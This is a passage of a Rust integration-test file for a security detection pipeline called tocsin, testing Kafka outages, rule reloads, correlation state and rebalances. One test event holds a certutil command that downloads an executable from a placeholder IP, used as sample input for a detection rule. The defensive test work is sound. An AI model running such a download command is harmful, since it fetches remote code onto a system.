    assert!(
        rss_during_outage < 512 * 1024,
        "{rss_during_outage} KiB resident during the outage"
    );
    let (status, worker_err) = terminate(worker);
    assert!(status.success(), "worker all exit {status}: {worker_err}");
    assert_final_versions(&expected, &seen, &worker_err);
    let _ = broker.kill();
    let _ = broker.wait();
    let repeats: usize = seen.values().map(|c| c.len() - 1).sum();
    eprintln!(
        "fault test (d)/(f): {} warning versions after an 8 s broker outage, {} repeated deliveries, {} in-process restarts, {} KiB resident during the outage",
        seen.len(),
        repeats,
        worker_err.matches("starting again from the last committed offsets").count(),
        rss_during_outage
    );
}

/// A child process killed when the test ends, even by a panic: a failed assertion must not
/// leave workers or brokers behind.
struct Reaped(Option<Child>);

impl Reaped {
    fn take(mut self) -> Child {
        self.0.take().expect("child present")
    }
}

impl Drop for Reaped {
    fn drop(&mut self) {
        if let Some(c) = &mut self.0 {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

/// SIGTERM with the broker gone: the worker cannot commit nor leave its group, and still
/// exits within its shutdown deadline (plus the watchdog's grace), so Kubernetes never has
/// to SIGKILL it.
#[test]
fn worker_stops_within_its_deadline_when_the_broker_is_gone() {
    let Some(_) = bootstrap() else { return };
    let Ok(tansu) = std::env::var("TOCSIN_TANSU") else {
        eprintln!("SKIPPED: TOCSIN_TANSU is not set; tests/run.sh installs the test broker");
        return;
    };
    let port = free_loopback_addr().port();
    let broker_dir = tempfile::tempdir().unwrap();
    let broker = Reaped(Some(start_broker(&tansu, broker_dir.path(), port)));
    let id = unique();
    let dir = tempfile::tempdir().unwrap();
    let config = scenario_config(dir.path(), &format!("127.0.0.1:{port}"), &id);
    create_topics(&config, 3);
    let listen = free_loopback_addr();
    let worker = Reaped(Some(spawn_configured_with(
        &config,
        "all",
        &["--listen", &listen.to_string(), "--shutdown-deadline", "2"],
    )));
    let until = Instant::now() + Duration::from_secs(30);
    while http_get(listen, "/readyz").0 != 200 {
        assert!(Instant::now() < until, "the worker never became ready");
        std::thread::sleep(Duration::from_millis(200));
    }
    // Work in flight: events flowing when the broker goes.
    let events = dir.path().join("events.jsonl");
    generate_events(&events, 5000, 5);
    let mut sink = Sink::new(&KafkaSettings::new(format!("127.0.0.1:{port}"))).unwrap();
    for line in std::fs::read_to_string(&events).unwrap().lines() {
        sink.send(&format!("test.{id}.events"), None, line.as_bytes(), &[])
            .unwrap();
    }
    sink.flush(Duration::from_secs(60)).unwrap();
    let series = format!("tocsin_events_total{{source=\"test.{id}.events\"}}");
    let until = Instant::now() + Duration::from_secs(30);
    while metric(&http_get(listen, "/metrics").1, &series).unwrap_or(0.0) < 1.0 {
        assert!(Instant::now() < until, "no event consumed");
        std::thread::sleep(Duration::from_millis(50));
    }
    drop(broker);
    std::thread::sleep(Duration::from_secs(1));
    let stopped = Instant::now();
    let (status, err) = terminate(worker.take());
    let took = stopped.elapsed();
    assert!(
        took < Duration::from_secs(20),
        "SIGTERM took {took:?} with the broker gone:\n{err}"
    );
    // Exit 0 if librdkafka gave up on the commit by itself, 1 if the watchdog ended it.
    assert!(
        status.code().is_some(),
        "killed by a signal, not exited: {status}\n{err}"
    );
    eprintln!("stopped {took:?} after SIGTERM with the broker gone: {status}");
}

/// The alerts and the dashboard in deploy/monitoring query only metric names that a running
/// worker exposes (`exposition` is a scrape of `worker all` after a workload went through).
fn assert_dashboards_use_exposed_metrics(exposition: &str) {
    let exposed: BTreeSet<&str> = exposition
        .lines()
        .filter(|l| !l.starts_with('#'))
        .filter_map(|l| l.split(['{', ' ']).next())
        .collect();
    let mut used = BTreeSet::new();
    for file in [
        "deploy/monitoring/prometheus-rules.yaml",
        "deploy/monitoring/grafana-dashboard.json",
    ] {
        let text = std::fs::read_to_string(repo().join(file)).unwrap();
        let mut rest = text.as_str();
        while let Some(at) = rest.find("tocsin_") {
            rest = &rest[at..];
            let end = rest
                .find(|c: char| !(c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_'))
                .unwrap_or(rest.len());
            used.insert((file, rest[..end].to_owned()));
            rest = &rest[end..];
        }
    }
    assert!(used.len() > 10, "few metric names found: {used:?}");
    for (file, name) in &used {
        // A histogram is exposed as NAME_bucket, NAME_sum and NAME_count.
        let found = exposed.contains(name.as_str())
            || ["_bucket", "_sum", "_count"]
                .iter()
                .any(|s| exposed.contains(format!("{name}{s}").as_str()));
        assert!(
            found,
            "{file} queries {name}, which the worker does not expose"
        );
    }
}

/// A rule added to a watched rule directory (a ConfigMap update, in Kubernetes) is used by
/// a running match worker without a restart: an event no loaded rule matches is published,
/// the site rule of deploy/ is copied in, and the same event published again is detected.
#[test]
fn match_worker_picks_up_a_new_rule_without_a_restart() {
    let Some(bootstrap) = bootstrap() else { return };
    let id = unique();
    let dir = tempfile::tempdir().unwrap();
    let (site, config) = watched_site_config(dir.path(), &bootstrap, &id);
    let listen = free_loopback_addr();
    // JSON logs this time, and a secret that must not appear in them.
    let worker = Reaped(Some(spawn_configured_with(
        &config,
        "match",
        &[
            "--listen",
            &listen.to_string(),
            "--log-format",
            "json",
            "--kafka",
            "sasl.password=hunter2-do-not-print",
        ],
    )));
    let reader = detections_reader(&bootstrap, &id);
    let mut sink = Sink::new(&KafkaSettings::new(bootstrap.clone())).unwrap();
    let event = |n: u32| {
        format!(
            r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil.exe -urlcache -split -f http://203.0.113.7/a{n}.exe a.exe","sector":"health","member_state":"DE","organisation":"Klinikum Test","@timestamp":"2026-03-02T08:00:0{n}Z"}}"#
        )
    };
    let topic = format!("test.{id}.events");
    let publish = |sink: &mut Sink, n: u32| {
        sink.send(&topic, None, event(n).as_bytes(), &[]).unwrap();
        sink.flush(Duration::from_secs(30)).unwrap();
    };
    let consumed = |n: f64| wait_consumed(listen, &id, n);
    publish(&mut sink, 1);
    consumed(1.0);
    let (_, m) = http_get(listen, "/metrics");
    assert_eq!(metric(&m, "tocsin_rule_set_version"), Some(1.0));
    std::fs::copy(
        repo().join("deploy/k8s/base/site-rules/certutil_download.yml"),
        site.join("certutil_download.yml"),
    )
    .unwrap();
    wait_rule_set_version(listen, 2.0, "the new rule was not loaded");
    // The switch happens between batches: publish after one more window has passed.
    std::thread::sleep(Duration::from_millis(500));
    publish(&mut sink, 2);
    consumed(2.0);
    let mut rules_hit = Vec::new();
    let until = Instant::now() + Duration::from_secs(30);
    while rules_hit.is_empty() && Instant::now() < until {
        if let Some(Ok(m)) = reader.poll(Duration::from_millis(200)) {
            let d: serde_json::Value = serde_json::from_slice(m.payload()).unwrap();
            rules_hit.push((
                d["rule"]["id"].as_str().unwrap().to_owned(),
                d["source"]["position"].as_u64().unwrap(),
            ));
        }
    }
    assert_eq!(
        rules_hit,
        [("47f0c3bb-25f7-47ad-873f-25e3d7926520".to_owned(), 1)],
        "only the event after the reload is detected, by the new rule"
    );
    let (status, err) = terminate(worker.take());
    assert!(status.success(), "{err}");
    assert!(!err.contains("hunter2"), "a secret in the logs:\n{err}");
    // One JSON object per line, each with its level, message and the worker's span.
    let lines: Vec<serde_json::Value> = err
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
        .collect();
    assert!(lines.len() >= 3, "{err}");
    for l in &lines {
        assert!(l["level"].is_string() && l["message"].is_string(), "{l}");
    }
    let stopped = lines
        .iter()
        .find(|l| {
            l["message"]
                .as_str()
                .unwrap()
                .starts_with("match worker stopped")
        })
        .unwrap_or_else(|| panic!("no stop line:\n{err}"));
    assert_eq!(stopped["reloads"], 1, "{stopped}");
    assert_eq!(stopped["span"]["kind"], "match", "{stopped}");
    assert_eq!(
        stopped["span"]["group"],
        format!("test-{id}-match"),
        "{stopped}"
    );
    assert!(
        lines.iter().any(|l| l["message"]
            .as_str()
            .unwrap()
            .starts_with("reloaded (files changed)")),
        "the reload is logged:\n{err}"
    );
}

/// `correlate.state_interval_ms`: a state is written at the first batch that changes it, then
/// not again within the interval (a minute here), and the offsets of the batches in between
/// wait uncommitted (the group's lag shows them); a stopping worker writes the state that
/// includes them, and a new worker restores every message from it.
#[test]
fn correlate_worker_holds_its_offsets_until_the_state_interval_or_its_stop() {
    let Some(bootstrap) = bootstrap() else { return };
    let id = unique();
    let dir = tempfile::tempdir().unwrap();
    let config = scenario_config(dir.path(), &bootstrap, &id);
    // One detection per batch; no idle advance (it would write at once); states in parts,
    // so that the stop's write replaces the first one's parts.
    set_correlate(
        &config,
        "idle_grace_s = 0\nstate_interval_ms = 60000\nstate_record_bytes = 256\n",
    );
    let text = std::fs::read_to_string(&config).unwrap();
    std::fs::write(&config, text.replace("batch = 100\n", "batch = 1\n")).unwrap();
    create_topics(&config, 1);
    let mut sink = Sink::new(&KafkaSettings::new(bootstrap.clone())).unwrap();
    let topic = format!("test.{id}.detections");
    for n in 0..5 {
        let (key, payload) = indicator_detection(n);
        sink.send(&topic, Some(key.as_bytes()), &payload, &[])
            .unwrap();
    }
    sink.flush(Duration::from_secs(30)).unwrap();
    let (worker, listen) = spawn_listening(&config, "correlate");
    wait_metric(
        listen,
        "tocsin_correlation_keys",
        |v| v == Some(5.0),
        "the worker did not merge the five detections",
    );
    // The first batch's offset is committed with its state; the four after it wait.
    wait_metric(
        listen,
        &lag_series(&topic, 0),
        |v| v == Some(4.0),
        "the lag did not show the four detections held for the next state",
    );
    let (status, err) = terminate(worker.take());
    assert!(status.success(), "{err}");
    assert!(
        err.contains(", 2 state records (")
            && err.contains("5 batches (4 of them committed with a later state)"),
        "one state at the first batch, one at the stop:\n{err}"
    );
    let err = restored_and_stopped(&config, "correlate");
    assert!(
        err.contains("state restored up to offset 5 (5 live keys; read from"),
        "the new worker restored the stopped one's last state from its parts:\n{err}"
    );
    // The stop's write tombstoned the first state's parts before the worker went.
    assert_no_replaced_records(&err);
}

/// Between whole states a correlate worker writes deltas, the keys changed since the write
/// before, and a whole state again after `correlate.state_max_deltas` of them (tombstoning
/// the deltas it replaces); a new worker restores the state from the last whole one and the
/// deltas after it. Here forty keys come first, then one detection at a time, each its own
/// batch and write, until a whole state has followed deltas and the last write is a delta.
#[test]
fn correlate_worker_writes_deltas_between_whole_states_and_restores_through_them() {
    let Some(bootstrap) = bootstrap() else { return };
    let mut s = OnePartition::new(
        &bootstrap,
        "idle_grace_s = 0\nstate_interval_ms = 0\nstate_max_deltas = 3\n",
    );
    for n in 0..40 {
        s.send(n);
    }
    let (worker, listen) = spawn_listening(&s.config, "correlate");
    let keys_reach = |n: u64| wait_keys(listen, n);
    keys_reach(40);
    let written = || {
        let exposition = http_get(listen, "/metrics").1;
        let count = |series| metric(&exposition, series).unwrap_or(0.0) as u64;
        (
            count("tocsin_state_records_total"),
            count("tocsin_state_deltas_total"),
        )
    };
    let (mut whole_after_a_delta, mut last_was_delta) = (false, false);
    let mut n = 40;
    while !(whole_after_a_delta && last_was_delta) {
        assert!(
            n < 60,
            "no whole state after deltas, then a delta, in 20 writes"
        );
        let (records, deltas) = written();
        s.send(n);
        n += 1;
        // The keys are counted after the batch's state is written.
        keys_reach(n);
        let (records_now, deltas_now) = written();
        assert_eq!(records_now, records + 1, "one write a batch");
        let delta = deltas_now > deltas;
        whole_after_a_delta |= !delta && deltas > 0;
        last_was_delta = delta;
    }
    let (status, err) = terminate(worker.take());
    assert!(status.success(), "{err}");
    assert!(
        number_after(&err, "state records (") >= 3,
        "the worker wrote too few deltas:\n{err}"
    );
    let err = restored_and_stopped(&s.config, "correlate");
    assert!(
        err.contains(&format!("state restored up to offset {n} ({n} live keys"))
            && err.contains("deltas applied)"),
        "the new worker did not restore the state through its deltas:\n{err}"
    );
    // The deltas before the last whole state were tombstoned once it was acknowledged.
    assert_no_replaced_records(&err);
}

/// A state written and then lost (its records tombstoned, as a stale owner might, or written
/// in a form this version does not read) leaves the newest state there below the offset the
/// group committed: the worker reads the partition again from that state's end, so that no
/// committed detection is missing from its state. Here every state record is tombstoned
/// after a worker merged ten detections and committed them; the next worker finds no state,
/// and at the next detection reads all eleven.
#[test]
fn correlate_worker_reads_again_what_a_lost_state_left_out() {
    let Some(bootstrap) = bootstrap() else { return };
    let mut s = OnePartition::new(
        &bootstrap,
        "idle_grace_s = 0\nstate_interval_ms = 0\nstate_max_deltas = 0\n",
    );
    for n in 0..10 {
        s.send(n);
    }
    let (worker, listen) = spawn_listening(&s.config, "correlate");
    wait_metric(
        listen,
        &lag_series(&s.topic, 0),
        |v| v == Some(0.0),
        "the first worker did not commit the ten detections",
    );
    let (status, err) = terminate(worker.take());
    assert!(status.success(), "{err}");
    let changelog = format!("test.{}.state", s.id);
    let records = record_keys(&s.settings, &changelog);
    assert!(!records.is_empty(), "no state was written");
    for key in &records {
        s.sink
            .send_tombstone(&changelog, 0, key.as_bytes())
            .unwrap();
    }
    s.send(10);
    let (worker, listen) = spawn_listening(&s.config, "correlate");
    wait_metric(
        listen,
        "tocsin_correlation_keys",
        |v| v == Some(11.0),
        "the worker did not merge the ten detections again and the eleventh",
    );
    wait_metric(
        listen,
        "tocsin_state_read_again_total",
        |v| v == Some(1.0),
        "the worker did not count the partition it read again",
    );
    wait_metric(
        listen,
        &lag_series(&s.topic, 0),
        |v| v == Some(0.0),
        "the worker did not commit the eleven detections",
    );
    let (status, err) = terminate(worker.take());
    assert!(status.success(), "{err}");
    assert!(
        err.contains("state restored up to offset 0 ")
            && err.contains("ends at offset 0, below the offset the group committed (10)")
            && err.contains("(1 read again from behind the committed offset)"),
        "the worker did not read the partition again from its state's end:\n{err}"
    );
}

/// The same when the newest state lost is a delta: the restore ends at the delta before it,
/// a few offsets below the committed one, and the worker reads from there again.
#[test]
fn correlate_worker_reads_again_after_a_lost_delta() {
    let Some(bootstrap) = bootstrap() else { return };
    let mut s = OnePartition::new(&bootstrap, "idle_grace_s = 0\nstate_interval_ms = 0\n");
    for n in 0..40 {
        s.send(n);
    }
    let (worker, listen) = spawn_listening(&s.config, "correlate");
    wait_keys(listen, 40);
    // Three more, each its own batch: a delta each.
    for n in 40..43 {
        s.send(n);
        wait_keys(listen, n + 1);
    }
    let (status, err) = terminate(worker.take());
    assert!(status.success(), "{err}");
    // The last delta (of offset 43) is lost.
    let changelog = format!("test.{}.state", s.id);
    let last = changelog_records(&s.settings, &changelog)
        .into_iter()
        .filter(|(key, _)| key.contains('+'))
        .max_by_key(|(_, next)| *next)
        .expect("deltas were written");
    assert_eq!(last.1, 43, "{last:?}");
    s.sink
        .send_tombstone(&changelog, 0, last.0.as_bytes())
        .unwrap();
    s.send(43);
    let (worker, listen) = spawn_listening(&s.config, "correlate");
    wait_keys(listen, 44);
    wait_metric(
        listen,
        &lag_series(&s.topic, 0),
        |v| v == Some(0.0),
        "the worker did not commit the forty-four detections",
    );
    let (status, err) = terminate(worker.take());
    assert!(status.success(), "{err}");
    assert!(
        err.contains("state restored up to offset 42 (42 live keys")
            && err.contains("ends at offset 42, below the offset the group committed (43)"),
        "the worker did not read the partition again from the delta before the lost one:\n{err}"
    );
}

/// The records (not tombstones) of `topic`, read from its start: (key, next-offset header,
/// or -1).
fn changelog_records(settings: &KafkaSettings, topic: &str) -> Vec<(String, i64)> {
    let group = format!("test-{}-records", unique());
    let reader = Source::subscribe(settings, &group, &[topic.to_owned()]).unwrap();
    let mut records = BTreeMap::new();
    let (mut read_any, mut last) = (false, Instant::now());
    let deadline = Instant::now() + Duration::from_secs(60);
    while !(read_any && last.elapsed() > Duration::from_secs(3)) && Instant::now() < deadline {
        let Some(Ok(m)) = reader.poll(Duration::from_millis(100)) else {
            continue;
        };
        (read_any, last) = (true, Instant::now());
        let Some(key) = m.key() else { continue };
        let key = String::from_utf8_lossy(key).into_owned();
        if m.payload().is_empty() {
            records.remove(&key);
        } else {
            let next = m
                .header(tocsin_kafka::changelog::NEXT_OFFSET_HEADER)
                .and_then(|v| v.parse().ok())
                .unwrap_or(-1);
            records.insert(key, next);
        }
    }
    records.into_iter().collect()
}

/// The keys of the records (not tombstones) of `topic`, read from its start.
fn record_keys(settings: &KafkaSettings, topic: &str) -> Vec<String> {
    changelog_records(settings, topic)
        .into_iter()
        .map(|(key, _)| key)
        .collect()
}

/// A partition taken away by a rebalance is handed over with its state written and its
/// offsets committed: its worker holds it until then (the group waits), so the new owner
/// restores everything the old one read and reads none of it again. Here the old owner
/// holds three batches per partition under a one-minute interval when a second worker
/// joins.
#[test]
fn correlate_worker_hands_a_partition_over_with_its_state_written_first() {
    let Some(bootstrap) = bootstrap() else { return };
    let id = unique();
    let dir = tempfile::tempdir().unwrap();
    let config = scenario_config(dir.path(), &bootstrap, &id);
    set_correlate(&config, "idle_grace_s = 0\nstate_interval_ms = 60000\n");
    let text = std::fs::read_to_string(&config).unwrap();
    std::fs::write(&config, text.replace("batch = 100\n", "batch = 1\n")).unwrap();
    create_topics(&config, 2);
    let mut sink = Sink::new(&KafkaSettings::new(bootstrap.clone())).unwrap();
    let topic = format!("test.{id}.detections");
    for n in 0..6 {
        let (key, payload) = indicator_detection(n);
        let partition = (n / 3) as i32;
        sink.send_to(&topic, Some(partition), Some(key.as_bytes()), &payload, &[])
            .unwrap();
    }
    sink.flush(Duration::from_secs(30)).unwrap();
    let (first, first_listen) = spawn_listening(&config, "correlate");
    wait_metric(
        first_listen,
        "tocsin_correlation_keys",
        |v| v == Some(6.0),
        "the first worker did not merge the six detections",
    );
    let (second, second_listen) = spawn_listening(&config, "correlate");
    // The partition it was given is committed up to its end (3): the old owner committed
    // before it let the partition go. (Its lag shows once it has fetched, so it has polled.)
    let lag = |partition: i32| {
        let series = lag_series(&topic, partition);
        metric(&http_get(second_listen, "/metrics").1, &series)
    };
    let until = Instant::now() + Duration::from_secs(60);
    while !(lag(0) == Some(0.0) || lag(1) == Some(0.0)) {
        assert!(
            Instant::now() < until,
            "the second worker's partition did not show everything committed"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    let (status, second_err) = terminate(second.take());
    assert!(status.success(), "{second_err}");
    let (status, first_err) = terminate(first.take());
    assert!(status.success(), "{first_err}");
    assert!(
        second_err.contains("state restored up to offset 3 (3 live keys")
            && second_err.contains("correlate worker stopped: 0 messages, 0 skipped"),
        "the second worker did not start where the first one stopped reading:\n{second_err}\n\nthe first worker:\n{first_err}"
    );
}

/// A correlate worker takes a changed escalation policy without a restart: ten
/// organisations under a policy that wants fifty for a warning raise none; once a policy
/// that wants two is loaded (the site directory, read after `rules/`, is watched every
/// second), the next detection raises the warning, of eleven organisations.
#[test]
fn correlate_worker_takes_a_new_escalation_policy_without_a_restart() {
    let Some(bootstrap) = bootstrap() else { return };
    let id = unique();
    let dir = tempfile::tempdir().unwrap();
    let (site, config) = config_with_watched_site(dir.path(), &bootstrap, &id, true);
    std::fs::write(site.join("escalation.yaml"), escalation_policy_wanting(50)).unwrap();
    create_topics(&config, 1);
    let reader = Source::subscribe(
        &KafkaSettings::new(bootstrap.clone()),
        &format!("test-{id}-reader"),
        &[format!("test.{id}.warnings.technical")],
    )
    .unwrap();
    let mut sink = Sink::new(&KafkaSettings::new(bootstrap.clone())).unwrap();
    let topic = format!("test.{id}.detections");
    let publish = |sink: &mut Sink, organisations| sightings(sink, &topic, organisations);
    publish(&mut sink, 0..10);
    let (worker, listen) = spawn_listening(&config, "correlate");
    // All ten merged: their offsets are committed with the state that holds them.
    wait_metric(
        listen,
        &lag_series(&topic, 0),
        |v| v == Some(0.0),
        "the worker did not merge the ten detections",
    );
    std::fs::write(site.join("escalation.yaml"), escalation_policy_wanting(2)).unwrap();
    wait_metric(
        listen,
        "tocsin_reloads_total{outcome=\"success\"}",
        |v| v.unwrap_or(0.0) >= 1.0,
        "the worker did not reload the policy",
    );
    publish(&mut sink, 10..11);
    let mut seen = BTreeMap::new();
    read_warnings(&reader, &mut seen, Duration::from_secs(15));
    let (status, err) = terminate(worker.take());
    assert!(status.success(), "{err}");
    let versions = organisations_by_version(&seen);
    assert_eq!(
        versions,
        [(1, serde_json::json!(11))],
        "one warning, at the first detection after the reload:\n{err}"
    );
    assert!(
        err.contains("escalation policy replaced in 1 partitions"),
        "the worker logs the change:\n{err}"
    );
}

/// A correlate worker takes changed recipients without a restart: once its topic is made
/// (`tocsin topics create`), a recipient added to `recipients.yaml` receives the versions
/// issued after the reload, and those it replaces receive no more.
#[test]
fn correlate_worker_takes_new_recipients_without_a_restart() {
    let Some(bootstrap) = bootstrap() else { return };
    let id = unique();
    let dir = tempfile::tempdir().unwrap();
    let (site, config) = config_with_watched_site(dir.path(), &bootstrap, &id, true);
    // No recipients of its own at first: those of rules/ are used. No update interval,
    // so that each new organisation is a version.
    let recipients = site.join("recipients.yaml");
    std::fs::write(&recipients, "recipients: []\n").unwrap();
    let policy = escalation_policy_wanting(2)
        .replace("min_update_interval: 15m\n", "min_update_interval: 0m\n");
    assert!(policy.contains("min_update_interval: 0m\n"), "{policy}");
    std::fs::write(site.join("escalation.yaml"), policy).unwrap();
    create_topics(&config, 1);
    let extra = "recipients:\n  - {id: extra, audience: technical, tlp: AMBER, all: true}\n";
    let extra_file = dir.path().join("extra.yaml");
    std::fs::write(&extra_file, extra).unwrap();
    run_ok(
        configured()
            .args(["topics", "create", "--partitions", "1", "--config"])
            .arg(&config)
            .arg("--recipients")
            .arg(&extra_file),
    );
    let reader = Source::subscribe(
        &KafkaSettings::new(bootstrap.clone()),
        &format!("test-{id}-reader"),
        &[format!("test.{id}.warnings.extra")],
    )
    .unwrap();
    let mut sink = Sink::new(&KafkaSettings::new(bootstrap.clone())).unwrap();
    let topic = format!("test.{id}.detections");
    let (worker, listen) = spawn_listening(&config, "correlate");
    // A first version, to the recipients of rules/; merged and committed once the lag is 0
    // (the worker, and its watch of the rule files, are running by then).
    sightings(&mut sink, &topic, 0..2);
    wait_metric(
        listen,
        &lag_series(&topic, 0),
        |v| v == Some(0.0),
        "the worker did not merge the two detections",
    );
    std::fs::write(&recipients, extra).unwrap();
    wait_metric(
        listen,
        "tocsin_reloads_total{outcome=\"success\"}",
        |v| v.unwrap_or(0.0) >= 1.0,
        "the worker did not reload the recipients",
    );
    sightings(&mut sink, &topic, 2..3);
    let mut seen = BTreeMap::new();
    read_warnings(&reader, &mut seen, Duration::from_secs(15));
    let (status, err) = terminate(worker.take());
    assert!(status.success(), "{err}");
    assert!(
        err.contains("recipients replaced: 1 added, ") && err.contains(" removed, 1 in all"),
        "the worker logs the change:\n{err}"
    );
    let versions = organisations_by_version(&seen);
    assert_eq!(
        versions,
        [(2, serde_json::json!(3))],
        "the recipient gets the versions issued after it was taken:\n{err}"
    );
}

/// The series of a worker's consumer lag on `partition` of `topic`.
fn lag_series(topic: &str, partition: i32) -> String {
    format!("tocsin_consumer_lag_messages{{partition=\"{partition}\",topic=\"{topic}\"}}")
}

/// (version, organisation count) of each warning version `read_warnings` collected.
fn organisations_by_version(
    seen: &BTreeMap<(String, u64), Vec<Vec<u8>>>,
) -> Vec<(u64, serde_json::Value)> {
    seen.iter()
        .map(|((_, version), copies)| {
            let w: serde_json::Value = serde_json::from_slice(&copies[0]).unwrap();
            (*version, w["affected"]["organisation_count"].clone())
        })
        .collect()
}

/// Detections of indicator `campaign.bad.test`, one from each of `organisations` (one key,
/// a second apart), to `topic`.
fn sightings(sink: &mut Sink, topic: &str, organisations: std::ops::Range<u64>) {
    for n in organisations {
        let d = tocsin_core::samples::indicator_detection(
            format!("det-{n:032x}"),
            "campaign.bad.test",
            "test",
            &format!("Organisation {n}"),
            tocsin_core::Timestamp(1_772_438_400_000 + n as i64 * 1_000),
        );
        let (key, payload) = tocsin_core::samples::keyed_message(&d);
        sink.send(topic, Some(key.as_bytes()), &payload, &[])
            .unwrap();
    }
    sink.flush(Duration::from_secs(30)).unwrap();
}

/// A restore found no record of a state older than the one it took: the worker that
/// wrote the newer one tombstoned them (`err`: what the restoring worker said).
fn assert_no_replaced_records(err: &str) {
    assert!(
        !err.contains("older than the one restored"),
        "records of replaced states were left behind:\n{err}"
    );
}

/// A correlate scenario over one detections partition, its topics created, with these
/// `[correlate]` settings added.
struct OnePartition {
    /// Holds the configuration while the scenario runs.
    _dir: tempfile::TempDir,
    config: std::path::PathBuf,
    id: String,
    settings: KafkaSettings,
    sink: Sink,
    /// The detections topic.
    topic: String,
}

impl OnePartition {
    fn new(bootstrap: &str, correlate: &str) -> Self {
        let id = unique();
        let dir = tempfile::tempdir().unwrap();
        let config = scenario_config(dir.path(), bootstrap, &id);
        set_correlate(&config, correlate);
        create_topics(&config, 1);
        let settings = KafkaSettings::new(bootstrap.to_owned());
        let sink = Sink::new(&settings).unwrap();
        let topic = format!("test.{id}.detections");
        OnePartition {
            _dir: dir,
            config,
            id,
            settings,
            sink,
            topic,
        }
    }

    /// Publish [`indicator_detection`] `n`, acknowledged.
    fn send(&mut self, n: u64) {
        send_indicator_detection(&mut self.sink, &self.topic, n);
    }
}

/// Wait until the worker listening on `listen` holds `n` live correlation keys.
fn wait_keys(listen: std::net::SocketAddr, n: u64) {
    wait_metric(
        listen,
        "tocsin_correlation_keys",
        |v| v == Some(n as f64),
        &format!("the worker did not merge {n} detections"),
    )
}

/// Publish [`indicator_detection`] `n` to `topic`, and wait for its acknowledgement.
fn send_indicator_detection(sink: &mut Sink, topic: &str, n: u64) {
    let (key, payload) = indicator_detection(n);
    sink.send(topic, Some(key.as_bytes()), &payload, &[])
        .unwrap();
    sink.flush(Duration::from_secs(30)).unwrap();
}

/// A detection of indicator `h{n}.bad.test` from one organisation (a live key of its own, no
/// warning): (its correlation key, its JSON).
fn indicator_detection(n: u64) -> (String, Vec<u8>) {
    let d = tocsin_core::samples::indicator_detection(
        format!("det-{n:032x}"),
        &format!("h{n}.bad.test"),
        "test",
        "Klinikum Test",
        tocsin_core::Timestamp(1_772_438_400_000 + n as i64),
    );
    tocsin_core::samples::keyed_message(&d)
}

/// A window judged at its close ends though nothing more arrives: the correlate thread
/// moves an idle partition's event time on with the wall clock (`correlate.idle_grace_s`,
/// 1 s here), so "fewer than three failures from one address in ten seconds" fires for the
/// address that sent two and fell silent, with no later detection to close its window.
#[test]
fn correlate_worker_judges_a_window_when_its_input_goes_quiet() {
    let Some(bootstrap) = bootstrap() else { return };
    let id = unique();
    let dir = tempfile::tempdir().unwrap();
    let (site, config) = watched_site_config(dir.path(), &bootstrap, &id);
    set_correlate(&config, "idle_grace_s = 1\nstate_record_bytes = 256\n");
    std::fs::write(site.join("failed_logon.yml"), FAILED_LOGON).unwrap();
    std::fs::write(
        site.join("few.yml"),
        "title: Few failed logons from one address\nid: few\ncorrelation:\n  type: event_count\n  rules: [failed_logon]\n  group-by: [IpAddress]\n  timespan: 10s\n  condition: {lt: 3}\nlevel: low\n",
    )
    .unwrap();
    let worker = Reaped(Some(spawn_configured_with(&config, "all", &[])));
    let reader = detections_reader(&bootstrap, &id);
    let mut sink = Sink::new(&KafkaSettings::new(bootstrap.clone())).unwrap();
    let topic = format!("test.{id}.events");
    // Two failures from .1 (its window ends at 08:00:10), then one from .2 at 08:05:09.
    // The policy's allowed lateness (`rules/escalation.yaml`, 5 minutes) keeps .1's window
    // open until event time passes 08:05:10, which no detection brings: once the consumer's
    // statistics show the partition caught up, its event time reaches it 2 s later (1 s of
    // it the grace).
    for (address, time) in [
        ("10.1.1.1", "08:00:00"),
        ("10.1.1.1", "08:00:05"),
        ("10.1.1.2", "08:05:09"),
    ] {
        let event = failed_logon_event(address, time);
        sink.send(&topic, None, event.as_bytes(), &[]).unwrap();
    }
    sink.flush(Duration::from_secs(30)).unwrap();
    let fired = correlation_firings(&reader, Duration::from_secs(90), |d| {
        d["fields"]["IpAddress"].as_str().unwrap().to_owned()
    });
    let (status, err) = terminate(worker.take());
    assert!(status.success(), "{err}");
    assert_eq!(
        fired,
        [("few".to_owned(), "2".to_owned(), "10.1.1.1".to_owned())],
        "the quiet address's window is judged without a later detection:\n{err}"
    );
    assert!(
        err.contains("idle for") && err.contains("1 correlation detection(s)"),
        "the worker says why it judged the window:\n{err}"
    );
    let consumed = number_after(&err, "correlate worker stopped: ");
    // The idle partition's states were written in parts of 256 bytes, each replacing the one before
    // (the earlier parts tombstoned): a new worker finds the newest whole, and it includes
    // every message the stopped worker read.
    let err = restored_and_stopped(&config, "all");
    assert!(
        err.contains(&format!("state restored up to offset {consumed} "))
            && err.contains("; read from "),
        "the new worker restored the state of all {consumed} messages from its parts:\n{err}"
    );
    // The stopped worker's last write tombstoned the parts it replaced before it went.
    assert_no_replaced_records(&err);
}

/// Put `settings` (TOML lines) at the head of the `[correlate]` section of `config`.
fn set_correlate(config: &std::path::Path, settings: &str) {
    let text = std::fs::read_to_string(config).unwrap();
    assert!(text.contains("[correlate]\n"), "{text}");
    let text = text.replace("[correlate]\n", &format!("[correlate]\n{settings}"));
    std::fs::write(config, text).unwrap();
}

/// `worker` on `config`, serving its metrics on a free loopback address (which it returns).
fn spawn_listening(config: &std::path::Path, worker: &str) -> (Reaped, std::net::SocketAddr) {
    let listen = free_loopback_addr();
    let child = spawn_configured_with(config, worker, &["--listen", &listen.to_string()]);
    (Reaped(Some(child)), listen)
}

/// Start `worker` (`correlate` or `all`) on `config`, wait until it has restored a
/// partition's state, stop it, and return what it said.
fn restored_and_stopped(config: &std::path::Path, worker: &str) -> String {
    let (restarted, listen) = spawn_listening(config, worker);
    wait_metric(
        listen,
        "tocsin_state_restores_total",
        |v| v.unwrap_or(0.0) >= 1.0,
        "the new worker restored no partition",
    );
    let (status, err) = terminate(restarted.take());
    assert!(status.success(), "{err}");
    err
}

/// The number written just after `what` in `text` (a worker's closing line, say).
fn number_after(text: &str, what: &str) -> u64 {
    let at = text
        .find(what)
        .unwrap_or_else(|| panic!("{what:?} not in:\n{text}"))
        + what.len();
    let digits: String = text[at..]
